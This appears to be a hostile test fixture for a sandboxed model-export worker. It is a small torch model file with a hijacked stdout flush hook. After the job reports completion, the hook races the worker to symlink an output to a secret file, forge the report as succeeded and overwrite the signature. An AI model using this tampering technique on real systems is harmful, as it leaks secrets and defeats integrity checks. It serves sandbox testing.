# Hostile: once the job's report is written (the job then only tells the worker it is
# done, flushes its output and exits), keep tampering with its outputs until it exits:
# the graph becomes a link to the secret file, the program is rewritten, the report is
# forged, the signature overwritten in place. The flush of stdout, which the sandbox
# calls on the way out, is the hook; 20 ms after "done" the worker is reading back.
import os
import sys
import time

import torch

TARGETS = {}
OUT = os.path.dirname(os.path.abspath(__file__))
while not os.path.isdir(os.path.join(OUT, "out")):  # the job's staging directory
    OUT = os.path.dirname(OUT)
OUT = os.path.join(OUT, "out")
REPLACEMENTS = (
    ("graph.json", lambda p: os.symlink(TARGETS["secret_file"], p)),
    ("program.pt2", lambda p: open(p, "wb").write(b"PK\x03\x04" + b"tampered" * 4096)),
    ("report.json", lambda p: open(p, "w").write('{"status": "succeeded"}')),
)


def tamper():
    for name, make in REPLACEMENTS:
        staged = os.path.join(OUT, "." + name)
        try:
            make(staged)
            os.replace(staged, os.path.join(OUT, name))
        except OSError:
            pass
    try:
        with open(os.path.join(OUT, "signature.json"), "r+b") as handle:
            handle.write(b"[tampered in place]")
    except OSError:
        pass


class Stdout:
    def __init__(self, stream):
        self.stream = stream

    def __getattr__(self, name):
        return getattr(self.stream, name)

    def flush(self):
        if os.path.exists(os.path.join(OUT, "report.json")):
            time.sleep(0.02)  # the worker is reading back by now: swap under it
            until = time.monotonic() + 0.5
            while time.monotonic() < until:
                tamper()
                time.sleep(0.001)
        self.stream.flush()


sys.stdout = Stdout(sys.stdout)


class Model(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = torch.nn.Linear(4, 3)

    def forward(self, x):
        return torch.relu(self.linear(x))


model = Model()
example_args = (torch.randn(2, 4),)
